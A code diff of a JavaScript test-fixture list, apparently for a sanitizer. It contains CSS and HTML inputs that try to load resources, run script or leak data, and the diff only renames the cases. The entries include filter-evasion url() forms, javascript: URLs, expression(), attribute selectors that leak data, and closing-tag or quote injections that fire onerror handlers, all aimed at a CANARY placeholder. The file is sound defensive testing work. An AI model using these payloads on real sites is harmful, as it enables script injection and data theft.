@@ -1,4 +1,4 @@
-// Styles that fetch, run, cover or tell.
+// Styles that load resources, run scripts, cover content or leak data.
 const style = (name, css) => ({ name, html: `<p style="${css}">Styled text</p>` });
 const sheet = (name, css) => ({ name, html: `<style>${css}</style><p class="a" id="a">Styled text</p>` });
 
@@ -7,9 +7,9 @@ export default [
   style('escaped name', 'background: \\75rl(CANARY/escaped)'),
   style('name in upper case', 'background-image: URL(CANARY/upper)'),
   style('comment within the name', 'background: u/**/rl(CANARY/comment); background-image: url(/**/CANARY/x)'),
-  style('address that never ends', 'background: url(CANARY/open'),
-  style('string in an image set', "background-image: image-set('CANARY/set' 1x, 'CANARY/set2' 2x)"),
-  style('image set with a prefix', "background-image: -webkit-image-set(url('CANARY/webkit') 1x)"),
+  style('unterminated address', 'background: url(CANARY/open'),
+  style('string in image-set', "background-image: image-set('CANARY/set' 1x, 'CANARY/set2' 2x)"),
+  style('image-set with a vendor prefix', "background-image: -webkit-image-set(url('CANARY/webkit') 1x)"),
   style('variable', '--x: url(CANARY/var); background: var(--x)'),
   style('variable with a fallback', 'background: var(--none, url(CANARY/fallback))'),
   style('cross fade', 'background-image: -webkit-cross-fade(url(CANARY/one), url(CANARY/two), 50%)'),
@@ -22,16 +22,16 @@ export default [
   style('content', 'content: url(CANARY/content)'),
   style('several backgrounds', 'background: url(CANARY/1), url(CANARY/2), linear-gradient(red, blue)'),
   style('gradient beside an address', 'background-image: linear-gradient(red, blue), url(CANARY/gradient)'),
-  style('expression of an old browser', 'width: expression(top.pwned = 1); behavior: url(CANARY/htc); -moz-binding: url(CANARY/xbl)'),
+  style('expression (old Internet Explorer)', 'width: expression(top.pwned = 1); behavior: url(CANARY/htc); -moz-binding: url(CANARY/xbl)'),
   style('script as an address', "background: url('javascript:top.pwned=1'); list-style-image: url(javascript:top.pwned=2)"),
   style('closing quote as an entity', 'color: red&quot; onmouseover=&quot;top.pwned=1'),
-  style('end of the element within', 'color: red; font-family: &quot;</style><img src=x: onerror=top.pwned=1>&quot;'),
-  style('attribute function', 'background: attr(title type(&lt;url&gt;)); width: attr(title px)'),
+  style('end tag within the style', 'color: red; font-family: &quot;</style><img src=x: onerror=top.pwned=1>&quot;'),
+  style('attr function', 'background: attr(title type(&lt;url&gt;)); width: attr(title px)'),
   sheet('import', '@import "CANARY/import.css"; @import url(CANARY/import2.css);'),
   sheet('font', '@font-face { font-family: f; src: url(CANARY/font.woff2) } p { font-family: f }'),
-  sheet('selectors that read', 'p[class^=a] { background: url(CANARY/starts-with-a) } :visited { color: red } body:has(p) { background: url(CANARY/has) }'),
+  sheet('selectors that read attributes', 'p[class^=a] { background: url(CANARY/starts-with-a) } :visited { color: red } body:has(p) { background: url(CANARY/has) }'),
   sheet('namespace and page', '@namespace url(CANARY/ns); @page { background: url(CANARY/page) } @media print { p { background: url(CANARY/print) } }'),
   sheet('property with an address', '@property --u { syntax: "<url>"; inherits: true; initial-value: url(CANARY/property) } p { background: var(--u) }'),
-  { name: 'linked sheet', html: '<link rel="stylesheet" href="CANARY/linked.css"><link rel=alternate\tstylesheet href=CANARY/alt.css><p>Hi</p>' },
+  { name: 'linked style sheet', html: '<link rel="stylesheet" href="CANARY/linked.css"><link rel=alternate\tstylesheet href=CANARY/alt.css><p>Hi</p>' },
   { name: 'style in the head with media', html: '<html><head><style media="all">body { background: url(CANARY/head) }</style></head><body style="background: url(CANARY/body)">Hi</body></html>' },
 ];
